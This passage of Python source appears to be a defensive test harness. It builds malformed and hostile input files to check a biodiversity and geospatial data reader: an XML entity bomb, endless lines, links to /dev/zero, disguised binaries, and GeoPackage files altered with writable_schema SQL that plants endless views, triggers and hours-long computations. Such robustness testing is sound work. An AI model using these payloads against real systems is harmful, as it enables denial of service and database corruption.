    lambda _: (b"timestamp,location-long,location-lat,individual-local-identifier\n" + b"".join(b"2020-01-01T00:00:00." + b"0" * 4_000 + b"Z,1,1,b\n" for _ in range(300))))
attack("footer.parquet", "records", "a footer as long as it says")(lambda _: b"PAR1" + bytes(100) + struct.pack("<I", 0x7FFFFFFF) + b"PAR1")
attack("nested_types.parquet", "records", "lists inside lists")(lambda _: _parquet(columns={"scientificName": [[[["a"]]]], "eventDate": [{"a": 1}]}))
attack("header.tsv", "records", "a header of a million columns")(
    lambda _: b"scientificName\tdecimalLongitude\tdecimalLatitude" + b"\ta" * 400_000 + b"\nGrus grus\t1\t1\n")
attack("line.tsv", "records", "a line that never ends")(lambda _: SEEN.encode() + b"1\t" * 10_000_000)
attack("meta.xml", "table", "a document that is no table")(lambda _: BOMB.encode() + b"<a>&a11;</a>")

# ---------------------------------------------------------------- what is no file of its own

attack("pipe.csv", "table", "a pipe that nobody writes to")(lambda path: None if path.exists() else os.mkfifo(path))
attack("zero.csv", "table", "a device without an end")(lambda path: _link(path, Path("/dev/zero")))
attack("circle.csv", "table", "a link to itself")(lambda path: _link(path, path))
attack("folder.csv", "table", "a folder")(lambda path: path.mkdir(exist_ok=True))
attack("program.csv", "table", "a program")(lambda _: b"\x7fELF" + bytes(1000))
attack("picture.csv", "table", "a picture")(
    lambda _: base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="))
attack("dossier.csv", "table", "a database under another name")(lambda _: b"SQLite format 3\x00" + bytes(2000))
attack("broken.xlsx", "table", "a workbook that is cut")(lambda path: list_workbook(path)[:1500])
# fmt: on


# ---------------------------------------------------------------- dossiers


def dossiers(sound: Path, folder: Path, words: Sequence[str] = ()) -> Iterator[Attack]:
    """Make dossiers that another program has changed, from a sound one."""
    data = sound.read_bytes()
    if not words:
        yield from _cut(data, folder)
    for name, (tries, statements) in CHANGED.items():
        if words and not any(word in f"{name}.gpkg" for word in words):
            continue
        path = folder / f"{name}.gpkg"
        path.write_bytes(data)
        _change(path, "PRAGMA writable_schema = 1", *statements)
        yield Attack(path.name, path, "dossier", tries)


def _cut(data: bytes, folder: Path) -> Iterator[Attack]:
    flipped = bytearray(data)
    for at in range(5_000, len(data), 40_000):
        flipped[at] ^= 0xFF
    for name, made, tries in (
        ("cut", data[: len(data) // 2], "half a file"),
        ("head", data[:100], "a header alone"),
        ("flipped", bytes(flipped), "a byte in forty thousand is another"),
        ("empty", b"", "nothing"),
        ("pages", data[:16] + b"\x00\x01" + data[18:], "pages of another size"),
    ):
        path = folder / f"{name}.gpkg"
        path.write_bytes(made)
        yield Attack(path.name, path, "dossier", tries)


def _comb(*, turned: bool) -> list[tuple[float, float]]:
    """Return the ring of a comb of a thousand teeth; with the turned one it crosses a million times."""
    teeth = [(130 + at / 8_000, 32 + (at % 4 > 1) / 2) for at in range(4_001)] + [(130.5, 31.9), (130, 31.9)]
    return [(north + 98, east - 98) if turned else (east, north) for east, north in (*teeth, teeth[0])]


def _area_of(site: str, *, turned: bool) -> str:
    """Return the statement by which a site gets a comb for a boundary."""
    ring = _comb(turned=turned)
    points = b"".join(struct.pack("<2d", *point) for point in ring)
    blob = HEAD + struct.pack("<BIIBIII", 1, 6, 1, 1, 3, 1, len(ring)) + points
    return f"INSERT INTO site_area (geom, site_id, source) SELECT x'{blob.hex()}', id, 'comb {turned}' FROM site {site}"


def _outline_of(*, turned: bool) -> str:
    return json.dumps({"type": "Polygon", "coordinates": [_comb(turned=turned)]})


DEEP = "[" * 100_000 + "]" * 100_000
ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)"
HOURS = "instr(zeroblob(40000000), cast(zeroblob(20000000) as blob) || x''01'')"
CHANGED: dict[str, tuple[str, list[str]]] = {
    "nested": ("collections inside collections", [_area_of("LIMIT 1", turned=False), f"UPDATE site_area SET geom = x'{NESTED.hex()}'"]),
    "point": ("a point that is a polygon", [_area_of("LIMIT 1", turned=False), "UPDATE site SET geom = (SELECT geom FROM site_area LIMIT 1)"]),
    "combs": ("boundaries of a site that cross a million times", [_area_of("LIMIT 3", turned=False), _area_of("LIMIT 3", turned=True)]),
    "tangle": ("land and a Party's area that cross a million times", [f"UPDATE agreement SET land = '{_outline_of(turned=False)}'", "UPDATE party SET boundary = NULL", f"UPDATE party SET boundary = '{_outline_of(turned=True)}' WHERE fid = 1"]),
    "json": ("arrays inside arrays", [f"UPDATE site SET species = '{DEEP}'", f"UPDATE match SET args = '{DEEP}'"]),
    "names": ("names that never end", [f"UPDATE entry SET verbatim = '{'(A ' * 60_000}' WHERE fid < 5"]),
    "numbers": ("numbers that are none", ["UPDATE site SET area_ha = 9e999", "UPDATE entry SET row = 9223372036854775807 WHERE fid = 1"]),
    "texts": ("texts that are no UTF-8", ["UPDATE entry SET number = CAST(x'fffe80' AS TEXT)", "UPDATE site SET name_en = CAST(x'ed a0 80' AS TEXT)".replace(" a0 80", "a080")]),
    "old": ("a version of none", ["UPDATE meta SET value = '0' WHERE key LIKE '%schema%'"]),
    "newer": ("a version of the future", ["UPDATE meta SET value = '999999999999' WHERE key LIKE '%schema%'"]),
    "word": ("a version that is a word", ["UPDATE meta SET value = 'x' WHERE key LIKE '%schema%'"]),
    "computed": ("a column that computes for hours", [f"UPDATE sqlite_master SET sql = replace(sql, 'value TEXT NOT NULL', 'value TEXT AS ({HOURS})') WHERE name = 'meta'"]),
    "statistics": ("statistics that compute for hours", ["ANALYZE", f"UPDATE sqlite_master SET sql = replace(sql, 'idx,stat', 'idx,x,stat AS ({HOURS})') WHERE name = 'sqlite_stat1'"]),
    "view": ("a table that is a view without end", ["ALTER TABLE threshold RENAME TO t2", f"CREATE VIEW threshold AS {ENDLESS} SELECT x AS fid, * FROM n, t2"]),
    "trigger": ("a trigger without end", [f"CREATE TRIGGER theirs AFTER INSERT ON position BEGIN INSERT INTO meta SELECT x, x FROM ({ENDLESS} SELECT x FROM n); END"]),
    "schema": ("a schema that is no SQL", ["UPDATE sqlite_master SET sql = 'CREATE TABLE entry (' || hex(zeroblob(100000)) WHERE name = 'entry'"]),
    "gone": ("tables that are not there", ["DROP TABLE position", "DROP TABLE source_file"]),
    "big": ("cells of half a gigabyte", ["UPDATE site SET note = hex(zeroblob(100000000)) WHERE fid = 1"]),
}  # fmt: skip
